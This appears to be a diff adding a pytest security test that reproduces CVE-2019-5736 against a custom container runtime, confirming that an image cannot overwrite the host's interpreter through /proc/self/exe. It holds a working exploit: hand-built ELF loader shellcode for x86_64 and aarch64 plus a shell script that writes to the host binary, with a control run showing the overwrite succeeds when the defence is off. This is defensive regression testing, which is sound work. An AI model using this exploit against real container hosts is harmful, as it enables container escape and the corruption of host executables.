@@ -1,0 +1,203 @@
+"""CVE-2019-5736, attempted as it was found: an image makes whoever joins it execute itself inside, and writes to that.
+
+The entrypoint is a script ``#!/proc/self/exe``; the kernel opens that file while it is still the runtime's own, and
+runs it with the dynamic loader of the *image*. The loader here opens /proc/self/exe and executes a shell that keeps the
+descriptor until nobody runs the file any more. The interpreter is a copy that no other process runs: the one thing that
+may refuse the write is then its mount. A control with the defence off shows that the attack would work.
+"""
+
+import contextlib
+import hashlib
+import json
+import os
+import pathlib
+import platform
+import re
+import shutil
+import struct
+import subprocess
+import sys
+import uuid
+
+import pytest
+
+from section08_oci import default_spec
+
+pytestmark = [pytest.mark.lane("host"), pytest.mark.needs("root", "program:busybox"), pytest.mark.timeout(120)]
+
+BIN = pathlib.Path(sys.executable).parent
+LOADER = {"x86_64": "lib64/ld-linux-x86-64.so.2", "aarch64": "lib/ld-linux-aarch64.so.1"}
+TEXTS = {"exe": b"/proc/self/exe\0", "busybox": b"/bin/busybox\0", "sh": b"sh\0", "attack": b"/attack\0"}
+#: Appending asks for the file as it is: "busy" while somebody runs it. Truncating asks the mount first.
+ATTACK = """
+busy=0 limit=2
+[ ! -e /patient ] || limit=60  # only there does the runtime end before the container
+while answer=$( (echo overwritten >> /proc/self/fd/3) 2>&1 ); [ "$answer" != "${answer%busy}" ]; do
+    busy=$((busy + 1)); [ $busy -lt $limit ] || break; sleep 0.05
+done
+echo "append: ${answer:-written}"
+(: > /proc/self/fd/3) 2>&1 || true
+"""
+
+
+def x86_64():
+    """Return open(exe, O_RDONLY); execve(busybox, [sh, attack], NULL); exit(9), as bytes and (lea opcode, text)."""
+    lea = b"\x48\x8d"
+    yield from ((lea + b"\x3d", "exe"), b"\x31\xf6\xb8\x02\0\0\0\x0f\x05")  # rdi = exe; esi = 0; eax = 2; syscall
+    yield from (b"\x31\xd2\x52", (lea + b"\x05", "attack"), b"\x50", (lea + b"\x05", "sh"), b"\x50\x48\x89\xe6")
+    yield from ((lea + b"\x3d", "busybox"), b"\xb8\x3b\0\0\0\x0f\x05")  # rsi = rsp is argv; edx = 0 is the environment
+    yield b"\xbf\x09\0\0\0\xb8\x3c\0\0\0\x0f\x05"
+
+
+def aarch64():
+    """Return the same; a pair is (register, text) for ``adr``."""
+    yield from ((1, "exe"), struct.pack("<4I", 0x92800C60, 0xD2800002, 0xD2800708, 0xD4000001))  # openat(AT_FDCWD, …)
+    yield from ((0, "busybox"), (9, "sh"), (10, "attack"))
+    yield struct.pack("<5I", 0xA9BE2BE9, 0xF9000BFF, 0x910003E1, 0xD2800002, 0xD2801BA8)  # argv on the stack; execve
+    yield struct.pack("<4I", 0xD4000001, 0xD2800120, 0xD2800BA8, 0xD4000001)
+
+
+def reference(word, offset, position):
+    """Return the instruction that loads the address of a text at ``offset``; it stands at ``position``."""
+    if isinstance(word, bytes):
+        return word + struct.pack("<i", offset - position - len(word) - 4)
+    distance = offset - position
+    return struct.pack("<I", (distance & 3) << 29 | 0x10000000 | (distance >> 2 & 0x7FFFF) << 5 | word)
+
+
+def hostile_loader():
+    """Return a program for this machine that stands where the interpreter's dynamic loader should be."""
+    parts = list({"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]())
+    sizes = [len(p) if isinstance(p, bytes) else len(reference(p[0], 0, 0)) for p in parts]
+    where, at = {}, sum(sizes)
+    for name, text in TEXTS.items():
+        where[name], at = at, at + len(text)
+    code = b""
+    for part in parts:
+        code += part if isinstance(part, bytes) else reference(part[0], where[part[1]], len(code))
+    code += b"".join(TEXTS.values())
+    machine = {"x86_64": 62, "aarch64": 183}[platform.machine()]
+    size = 120 + len(code)
+    header = struct.pack("<4s4B8x2HI3QI6H", b"\x7fELF", 2, 1, 1, 0, 3, machine, 1, 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
+    return header + struct.pack("<2I6Q", 1, 5, 0, 0, 0, size, size, 0x10000) + code
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """Return a folder with ``rootfs``: busybox, the loader, the attack, and programs that are ``#!/proc/self/exe``."""
+    folder = tmp_path_factory.mktemp("hostile")
+    root = folder / "rootfs"
+    loader = root / LOADER[platform.machine()]
+    for name in ("bin", "proc", "dev", "sys", "etc", loader.parent.relative_to(root)):
+        (root / name).mkdir(parents=True, exist_ok=True)
+    shutil.copy(shutil.which("busybox"), root / "bin" / "busybox")
+    (root / "bin" / "sleep").symlink_to("busybox")
+    loader.write_bytes(hostile_loader())
+    (root / "attack").write_text(ATTACK)
+    (root / "patient").touch()
+    for name in ("entry", "bin/sh"):
+        (root / name).write_text("#!/proc/self/exe\n")
+    for path in (loader, root / "entry", root / "bin" / "sh"):
+        path.chmod(0o755)
+    return folder
+
+
+class Interpreter:
+    """A copy of our interpreter that nobody else runs, and whether it still is what it was."""
+
+    def __init__(self, path):
+        self.path = path
+        shutil.copy(os.path.realpath(sys.executable), path)
+        self.before = self.digest()
+
+    def digest(self):
+        return hashlib.sha256(self.path.read_bytes()).hexdigest()
+
+    def command(self, tool, *arguments, defence=True):
+        """Return the command that runs ``tool``; without ``defence``: what the tool says to itself when it has one."""
+        off = () if defence else ("-X", "protected")
+        return [str(self.path), *off, "-I", "-S", str(BIN / tool), *map(str, arguments)]
+
+
+@pytest.fixture
+def python(tmp_path):
+    return Interpreter(tmp_path / "python")
+
+
+@pytest.fixture
+def minidocker_runs(minidocker, hostile, python):
+    """Return a function that runs MiniDocker on the copied interpreter, with the hostile image in the store."""
+    archive = hostile / "rootfs.tar"
+    if not archive.exists():
+        subprocess.run(["tar", "-C", hostile / "rootfs", "--exclude=./patient", "-cf", archive, "."], check=True)
+        minidocker("import", archive, "hostile")
+
+    def run(*arguments):
+        command = python.command("minidocker", "--root", minidocker.root, *arguments)
+        return subprocess.run(command, capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
+
+    return run
+
+
+def test_an_image_that_minidocker_runs_cannot_write_to_its_interpreter(minidocker_runs, python):
+    """The shim lives as long as the container, so "busy" would be the answer of an unprotected file."""
+    done = minidocker_runs("run", "--rm", "--network", "none", "hostile", "/entry")
+    assert done.stdout.splitlines()[-1].endswith("can't create /proc/self/fd/3: Read-only file system"), done
+    assert python.digest() == python.before
+
+
+def test_a_program_that_minidocker_executes_cannot_either(minidocker_runs, python):
+    minidocker_runs("run", "-d", "--name", "victim", "--network", "none", "hostile", "/bin/sleep", "60")
+    try:
+        done = minidocker_runs("exec", "victim", "/bin/sh")
+    finally:
+        minidocker_runs("rm", "-f", "victim")
+    assert done.stdout.splitlines()[-1].endswith("can't create /proc/self/fd/3: Read-only file system"), done
+    assert python.digest() == python.before
+
+
+@contextlib.contextmanager
+def oci_container(hostile, folder, python, *, defence):
+    """Create a container of the hostile root with ``ociman`` on the copied interpreter; yield a function for more."""
+    name = f"overwrite-{uuid.uuid4().hex[:12]}"
+    spec = default_spec()
+    spec["root"]["path"] = str(hostile / "rootfs")
+    spec["process"]["args"] = ["/entry"]
+    (folder / "config.json").write_text(json.dumps(spec))
+    output = folder / "output"
+
+    def ociman(*arguments):
+        command = python.command("ociman", "--root", folder / "state", *arguments, defence=defence)
+        with output.open("a") as out:
+            assert subprocess.run(command, stdin=subprocess.DEVNULL, stdout=out, stderr=out, timeout=30).returncode == 0
+        return output
+
+    ociman("create", "-b", folder, name)
+    try:
+        yield lambda *arguments: ociman(*(name if word == "ID" else word for word in arguments))
+    finally:
+        subprocess.run([BIN / "ociman", "--root", folder / "state", "delete", "--force", name], check=True)
+
+
+def attack_by_ociman(hostile, folder, python, *, defence):
+    """Run the attack when the runtime has gone; return what it wrote."""
+    with oci_container(hostile, folder, python, defence=defence) as ociman:
+        ociman("start", "ID")
+        for _ in range(100):
+            text = (folder / "output").read_text()
+            if "append:" in text:
+                return text
+            subprocess.run(["sleep", "0.05"], check=True)
+    return text
+
+
+def test_once_ociman_has_gone_the_write_is_still_refused(hostile, tmp_path, python):
+    text = attack_by_ociman(hostile, tmp_path, python, defence=True)
+    assert re.search("^append: .*can't create /proc/self/fd/3: Read-only file system$", text, re.MULTILINE)
+    assert python.digest() == python.before
+
+
+def test_with_the_defence_off_the_same_attack_overwrites_the_host_s_file(hostile, tmp_path, python):
+    text = attack_by_ociman(hostile, tmp_path, python, defence=False)
+    assert "append: written" in text
+    assert python.digest() != python.before
